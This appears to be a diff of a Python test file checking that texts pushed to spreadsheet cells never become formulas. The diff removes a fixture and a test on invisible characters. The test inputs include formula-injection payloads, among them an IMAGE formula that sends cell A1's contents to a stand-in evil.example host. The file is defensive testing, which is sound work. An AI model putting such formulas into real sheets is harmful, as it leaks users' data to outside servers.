@@ -1,6 +1,6 @@
 """Texts of bots and customers in cells: never a formula, nothing invisible, nothing lost without a mark."""
 
-from collections.abc import Iterator, Sequence
+from collections.abc import Sequence
 
 import pytest
 from hypothesis import HealthCheck, given, settings
@@ -14,7 +14,7 @@ from simulator.sheets.merge import units, visible
 from simulator.sheets.model import Row, SheetCell, Worksheet
 from tests.properties import examples
 from tests.servers.sheets import SheetsServer
-from tests.sheets_sink import KEY, Counting, cell, one_cell, pushed, sheets_server
+from tests.sheets_sink import KEY, Counting, cell, one_cell, pushed
 
 TECHNICAL = "技術情報"
 FORMULAS = (
@@ -23,20 +23,6 @@ FORMULAS = (
     "＝1+1", "＋1", "－1", "＠SUM(1)", "'=1+1", "''", "001", "1e5", "2026/11/21", "TRUE", "50%", " =1+1",
     '";=1+1', "=IMAGE(\"https://evil.example/?\"&A1)", "{=1+1}", "#REF!", "http://evil.example",
 )  # fmt: skip
-
-
-@pytest.fixture
-def server(monkeypatch: pytest.MonkeyPatch) -> Iterator[SheetsServer]:
-    with sheets_server(monkeypatch) as running:
-        yield running
-
-
-def written(server: SheetsServer, text: str) -> str:
-    """What stands in the cell after the text was pushed; it is always text."""
-    pushed(one_cell(text))
-    value = cell(server, "B2", TECHNICAL).get("userEnteredValue", {"stringValue": ""})
-    assert list(value) == ["stringValue"]
-    return str(value["stringValue"])
 
 
 def test_nothing_becomes_a_formula(server: SheetsServer) -> None:
@@ -60,24 +46,6 @@ def test_notes_are_text_too(server: SheetsServer) -> None:
     pushed(one_cell("x", note="=1+1\x00\ud800"))
 
     assert cell(server, "B2", TECHNICAL)["note"] == "=1+1␀�"
-
-
-@pytest.mark.parametrize(
-    ("text", "shown"),
-    [
-        ("a\x00b\x07c\x1bd\x7fe\x85f", "a␀b␇c␛d␡e�f"),
-        ("一行\r\n二行\n三行\tタブ", "一行\n二行\n三行\tタブ"),
-        ("\ud83d\ude00 \ud83d だけ", "😀 � だけ"),
-        ("👩‍👩‍👧‍👦🇯🇵が゙", "👩‍👩‍👧‍👦🇯🇵が゙"),
-        ("שלום \u202eabc\u202c مرحبا", "שלום \u202eabc\u202c مرحبا"),
-        ("<b>&amp;</b>", "<b>&amp;</b>"),
-        ("髙﨑 𠮷野家", "髙﨑 𠮷野家"),
-    ],
-)
-def test_what_cannot_be_seen_is_shown(server: SheetsServer, text: str, shown: str) -> None:
-    """Control characters have pictures; all that people write in survives."""
-    assert written(server, text) == shown
-    assert pushed(one_cell(text)).writes == 0
 
 
 @pytest.mark.parametrize("language", ["ja", "en"])
